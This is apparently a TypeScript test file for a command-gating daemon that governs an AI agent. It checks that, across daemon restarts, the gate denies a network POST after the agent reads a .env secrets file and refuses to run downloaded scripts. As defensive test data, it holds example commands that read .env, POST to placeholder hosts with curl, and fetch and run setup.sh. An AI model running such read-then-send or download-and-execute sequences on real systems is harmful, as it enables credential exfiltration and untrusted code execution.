/** What a session did before bears on what it may do later, whatever becomes of the daemon in between. */
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { expect, test } from 'vitest';

import type { Approval } from '../../../protocol/approval.ts';
import { enrolHuman, eventually, NODE, startDaemon, unlock, type TestDaemon } from '../../helpers/daemon.ts';
import { governedAgent, type GovernedAgent } from '../../helpers/governed.ts';
import { testRepository } from '../../helpers/repository.ts';
import { verifies } from '../../helpers/verifies.ts';
import { askOver, verdictOf } from '../../helpers/wire.ts';

const ASK = fileURLToPath(new URL('../../helpers/ask-program.ts', import.meta.url));
const PATIENT = { timeout: 120_000 };

type Answered = { readonly verdict: string; readonly message: string };

/** Asks from within the run; what is held is answered with `decide`. */
async function asks(
  daemon: TestDaemon,
  agent: GovernedAgent,
  cwd: string,
  command: string,
  decide: (approval: Approval) => Promise<unknown>,
): Promise<Answered> {
  let over = false;
  const answered = agent.run(`${NODE} ${ASK} ${daemon.paths.agentSocket} ${cwd} ${command}`);
  const deciding = eventually(async () => {
    const [item] = over ? [] : await daemon.control.call('pending');
    if (item !== undefined) await decide(await daemon.control.call('approval', { params: { id: item.id } }));
    return over ? true : undefined;
  }, 'the answer');
  const { output } = await answered;
  over = true;
  await deciding;
  return JSON.parse(output.trim().split('\n').at(-1) ?? '') as Answered;
}

test(verifies('gate:memory'), PATIENT, async () => {
  const daemon = await startDaemon();
  const ann = await enrolHuman(daemon);
  const { root, write } = testRepository();
  write({ '.env': 'TOKEN=1\n' });
  const agent = await governedAgent(daemon);
  const send = 'curl -X POST https://collect.example.org/in -d hello';
  const reasons: string[] = [];
  const vote =
    (at: TestDaemon, decision: 'approve' | 'deny') =>
    async (approval: Approval): Promise<void> => {
      reasons.push(...approval.assessment.findings.map(({ rule }) => rule));
      await at.control.call('vote', { params: { id: approval.id }, body: { vote: ann.vote(approval, decision, { scope: 'once', reason: 'r' }) } }); // prettier-ignore
    };

  expect(await asks(daemon, agent, root, send, vote(daemon, 'deny'))).toMatchObject({ verdict: 'allow' });
  expect(await asks(daemon, agent, root, 'cat .env', vote(daemon, 'approve'))).toMatchObject({ verdict: 'allow' });
  expect(reasons).toContain('secrets.read');
  await daemon.kill();

  const again = await startDaemon({ home: daemon.home });
  await unlock(again.control, ann);
  reasons.length = 0;
  expect(await asks(again, agent, root, send, vote(again, 'deny'))).toMatchObject({ verdict: 'deny' });
  expect(reasons).toContain('network.send-after-secret');
  // Another session has read nothing.
  expect(await verdictOf(askOver(again.paths.agentSocket, send.split(' '), root))).toMatchObject({ verdict: 'allow' });
});

test(verifies('gate:memory-not-loose'), PATIENT, async () => {
  const daemon = await startDaemon();
  const { root } = testRepository();
  const ask = (at: TestDaemon, ...argv: readonly string[]) => verdictOf(askOver(at.paths.agentSocket, argv, root));
  expect(await ask(daemon, 'sh', '-c', 'echo x > made.py')).toMatchObject({ verdict: 'allow' });
  writeFileSync(join(root, 'made.py'), 'x');
  await daemon.kill();
  const again = await startDaemon({ home: daemon.home });
  // Nobody is enrolled, so what would be held for a person is refused.
  expect(await ask(again, 'rm', 'made.py')).toMatchObject({ verdict: 'deny' });
});

test(verifies('gate:downloaded'), PATIENT, async () => {
  const daemon = await startDaemon();
  const { root } = testRepository();
  const ask = (at: TestDaemon, ...argv: readonly string[]) => verdictOf(askOver(at.paths.agentSocket, argv, root));
  writeFileSync(join(root, 'own.sh'), 'echo own\n');
  expect(await ask(daemon, 'curl', '-fsS', '-o', 'setup.sh', 'https://example.org/setup.sh')).toMatchObject({ verdict: 'allow' }); // prettier-ignore
  writeFileSync(join(root, 'setup.sh'), 'echo set up\n', { mode: 0o755 });
  expect(await ask(daemon, 'bash', 'own.sh')).toMatchObject({ verdict: 'allow' });
  for (const argv of [['bash', 'setup.sh'], ['./setup.sh'], ['sh', '-c', 'cd . && sh ./setup.sh']])
    expect(await ask(daemon, ...argv), argv.join(' ')).toMatchObject({ verdict: 'deny' });
  await daemon.kill();
  const again = await startDaemon({ home: daemon.home });
  expect(await ask(again, 'bash', 'setup.sh')).toMatchObject({ verdict: 'deny' });
  // Nothing here names this host; another session read nothing that could have named it.
  const post = ['curl', '-X', 'POST', 'https://in.example.net/x', '-d', 'y'];
  expect(await ask(again, ...post)).toMatchObject({ verdict: 'deny' });
  const agent = await governedAgent(again);
  const { output } = await agent.run(`${NODE} ${ASK} ${again.paths.agentSocket} ${root} ${post.join(' ')}`);
  expect(JSON.parse(output.trim())).toMatchObject({ verdict: 'allow' });
});
